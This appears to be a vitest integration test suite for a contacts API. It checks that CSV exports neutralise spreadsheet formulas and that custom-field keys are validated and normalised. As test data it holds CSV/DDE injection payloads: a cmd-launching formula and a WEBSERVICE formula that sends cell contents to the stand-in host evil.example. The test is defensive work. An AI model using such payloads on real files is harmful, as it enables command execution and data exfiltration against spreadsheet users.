import { UpdateCommand } from '@aws-sdk/lib-dynamodb';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { contactKey } from '../../functions/data/keys.js';
import { useLocalStack } from '../support/api-suite.js';
import { expectFieldErrors } from '../support/factories.js';
import { rawClient } from '../support/raw-client.js';

const stack = useLocalStack();
const operator = () => stack.api.as('operator', 'otto');

async function finishedJob(body: Record<string, unknown>) {
  const created = await operator().post('/v1/jobs', body);
  expect(created.status, JSON.stringify(created.body)).toBe(202);
  await stack.idleJobs();
  const job = await operator().get(`/v1/jobs/${created.body.id}`);
  expect(job.body.status, JSON.stringify(job.body)).toBe('succeeded');
  return job.body;
}

const CMD = "x;=cmd|' /C calc'!A0";

describe('CSV export', () => {
  it('neutralises formulas in the header row and after a separator inside a cell', async () => {
    const list = (await operator().post('/v1/lists', { name: 'Formula export' })).body;
    const contact = (await operator().post('/v1/contacts', { firstName: 'Formula', lastName: CMD, customFields: { plan: 'a,=1+1' } })).body;
    expect((await operator().put(`/v1/contacts/${contact.id}/lists/${list.id}`)).status).toBe(204);
    // A key from before keys were restricted (an imported header became a key as it was).
    const raw = rawClient(stack.dynamoEndpoint);
    await raw.send(
      new UpdateCommand({
        TableName: stack.tableName,
        Key: contactKey(contact.id),
        UpdateExpression: 'SET customFields.#k = :v',
        ExpressionAttributeNames: { '#k': '=WEBSERVICE("http://evil.example/?"&A2)' },
        ExpressionAttributeValues: { ':v': 'leak' },
      }),
    );
    raw.destroy();

    const job = await finishedJob({ type: 'export-contacts', filter: { list: list.id } });
    const file = await operator().get(job.downloadUrl);
    expect(file.status).toBe(200);
    const [header, row] = parse(String(file.body)) as string[][];
    expect(header).toContain('\'=WEBSERVICE("http://evil.example/?"&A2)');
    expect(header.filter((cell) => /^[=@+-]/.test(cell))).toEqual([]);
    expect(row[header.indexOf('lastName')]).toBe("x;'=cmd|' /C calc'!A0");
    expect(row[header.indexOf('plan')]).toBe("a,'=1+1");
    expect(row[header.indexOf('\'=WEBSERVICE("http://evil.example/?"&A2)')]).toBe('leak');
  });
});

describe('custom field keys', () => {
  const KEY_RULE = 'keys must start with a letter, hold only letters, digits and _ (at most 64) and not be a built-in object name (constructor, toString...)';
  it('are refused by the API unless they start with a letter and hold letters, digits and _', async () => {
    const before = (await operator().get('/v1/contacts?q=Keyless')).body.items;
    const r = await operator().post('/v1/contacts', { firstName: 'Keyless', customFields: { '=WEBSERVICE("x")': 'y' } });
    expectFieldErrors(r, { 'customFields.=WEBSERVICE("x")': KEY_RULE });
    expect((await operator().get('/v1/contacts?q=Keyless')).body.items).toEqual(before);
    // `constructor` could not even be stored: the SDK's marshaller takes a map with its own `constructor` for a class instance (a 500).
    const builtIn = await operator().post('/v1/contacts', { firstName: 'Keyless', customFields: { constructor: 'x', toString: 'y' } });
    expectFieldErrors(builtIn, { 'customFields.constructor': KEY_RULE, 'customFields.toString': KEY_RULE });
    expect((await operator().post('/v1/contacts', { firstName: 'Keyed', customFields: { birth_date2: 'y' } })).status).toBe(201);
  });

  it('come from import headers made valid keys, Object.prototype names included', async () => {
    const csv = ['firstName,"=WEBSERVICE(""http://x"")",Data de nascimento,constructor,toString', 'Importada,a,1990-01-02,c,t'].join('\n');
    await finishedJob({ type: 'import-contacts', fileName: 'keys.csv', csv });
    const [found] = (await operator().get('/v1/contacts?q=Importada')).body.items;
    const profile = (await operator().get(`/v1/contacts/${found.id}`)).body;
    expect(profile.customFields).toEqual({ webserviceHttpX: 'a', dataDeNascimento: '1990-01-02', constructor_: 'c', toString_: 't' });
  });
});
